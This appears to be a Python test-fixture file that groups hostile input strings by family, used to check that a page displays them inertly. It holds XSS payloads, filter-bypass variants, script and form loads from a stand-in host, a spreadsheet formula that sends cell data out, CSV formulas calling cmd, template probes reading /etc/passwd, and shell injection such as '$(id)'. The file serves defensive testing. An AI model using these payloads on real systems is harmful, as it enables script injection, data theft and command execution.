"""Texts that try to be more than text, as data: in bodies, names, reasons, wherever somebody else's words go.

A page shows each as it was written. Nothing in it runs, is fetched, or moves what stands around it.
"""

from itertools import chain, islice

RAN = "window.ran=1"
AWAY = "https://elsewhere.example"

# What is stacked on a letter, and what makes a word longer than any line.
ZALGO = "".join(letter + "\u0317\u0352\u0301\u0488\u035c" * 6 for letter in "roof leaks")
WORD = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft"

FAMILIES: dict[str, tuple[str, ...]] = {
    "scripts": (
        f"<script>{RAN}</script>",
        f"<script src={AWAY}/x.js></script>",
        f"<SCRIPT>{RAN}</SCRIPT>",
        f"<scr<script>ipt>{RAN}</scr</script>ipt>",
        f"</script><script>{RAN}</script>",
        f"<script type=module>import '{AWAY}/x.js'</script>",
        f"<!--><script>{RAN}</script-->",
        f"</title><script>{RAN}</script>",
        f"</textarea><script>{RAN}</script>",
        f"<noscript><p title='</noscript><script>{RAN}</script>'>",
        f"<template><script>{RAN}</script></template>",
        f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
        f"&lt;script&gt;{RAN}&lt;/script&gt;",
        f"＜script＞{RAN}＜/script＞",
    ),
    "markup": (
        f"<img src=x onerror={RAN}>",
        f"<img src={AWAY}/pixel.gif>",
        f"<iframe src=javascript:{RAN}></iframe>",
        f"<iframe srcdoc='<script>parent.{RAN}</script>'>",
        f"<object data={AWAY}/x></object>",
        f"<embed src={AWAY}/x>",
        f"<base href={AWAY}/>",
        f"<meta http-equiv=refresh content='0;url={AWAY}'>",
        f"<form action={AWAY}><button>Sign in again</button></form>",
        f"<video><source onerror={RAN}></video>",
        f"<details open ontoggle={RAN}>",
        f"<input autofocus onfocus={RAN}>",
        "</p></li></ol></section></main><h1>Signed out</h1>",
        "</bdi></span></a></li><li><a href=/signout>",
        "<!-- and then nothing more",
        "<plaintext>",
        "<b>bold</b> & <i>brave</i>",
    ),
    "attributes": (
        f'" onmouseover="{RAN}',
        f"' onfocus='{RAN}' autofocus='",
        f'"><img src=x onerror={RAN}>',
        f"'><svg/onload={RAN}>",
        f"` onclick=`{RAN}",
        'x" class="chip bad" hidden="',
        'x" id="texts" data-live="/elsewhere',
        f'x" formaction="{AWAY}',
        f'x" style="background:url({AWAY}/x)',
        "\"'`=<>/\\",
    ),
    "links": (
        f"javascript:{RAN}",
        f"JaVaScRiPt:{RAN}",
        f"java\tscript:{RAN}",
        f"\x01javascript:{RAN}",
        f"data:text/html,<script>{RAN}</script>",
        f"vbscript:{RAN}",
        f'<a href="javascript:{RAN}">your quote</a>',
        f"[your quote](javascript:{RAN})",
        f'http://x.example/"onmouseover="{RAN}',
        f"https://x.example/<script>{RAN}</script>",
        "https://bank.example@elsewhere.example/",
        "//elsewhere.example/x",
    ),
    "drawings": (
        f"<svg onload={RAN}>",
        f"<svg><script>{RAN}</script></svg>",
        f"<svg><a href=javascript:{RAN}><text>x</text></a></svg>",
        f"<svg><use href='{AWAY}/x.svg#x'/></svg>",
        f"<svg><animate onbegin={RAN} attributeName=x>",
        f"<math><mi href=javascript:{RAN}>x</mi></math>",
        f"<style>@import '{AWAY}/x.css'</style>",
        "<style>* { display: none }</style>",
        f"<link rel=stylesheet href={AWAY}/x.css>",
        f"<p style='background: url({AWAY}/x)'>x</p>",
        "} body { display: none",
        "expression(alert(1))",
    ),
    "templates": (
        "{{ 7 * 7 }}",
        "{% raw %}{{ user }}{% endraw %}",
        "{{ ''.__class__.__mro__ }}",
        "{% include '/etc/passwd' %}",
        "{{ agent_name | upcase }}",
        "${7 * 7} #{7 * 7} <%= 7 * 7 %>",
        "%s %d %(name)s {0} {name}",
        "$(id) `id` ; id",
    ),
    "formulas": (
        "=1+1",
        f'=HYPERLINK("{AWAY}?x="&A1, "your quote")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ),
    "direction": (
        "\u202eexe.gpj",
        "\u202e\u202e\u202egnihtyreve snrut",
        "\u2067right to left, never closed",
        "\u202dleft to right, never closed",
        "\u2069\u2069\u202c\u202c closes what is around it",
        "\u200fשלום\u200e hello \u200f",
        "مرحبا (hello) 123",
    ),
    "hardly seen": (
        "ro\u200bof\u200b \u200bof\u200b \u2060to\u2060day\ufeff",
        "\u200d\u200d\u200droof\u200c",
        "\U000e0041\U000e0042 tags",
        "\u2028lines\u2029of another kind",
        "\x01\x02\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x85",
        "\u0301\u0301\u0301 nothing beneath",
        "\ufffd\ufffe\uffff",
        ZALGO,
    ),
    "size": (
        "🌞" * 1600,
        "👩‍👩‍👧‍👧" * 100,
        "w" * 1600,
        WORD * 10,
        "\u00a0".join(["held", "together"] * 150),
        "https://x.example/" + "a" * 1500,
        "line\n" * 300,
        "\t" * 200 + "far to the right",
        "﷽" * 300,
    ),
}
TEXTS = tuple(chain.from_iterable(FAMILIES.values()))
ONE_OF_EACH = tuple(next(islice(texts, 1, None)) for texts in FAMILIES.values())
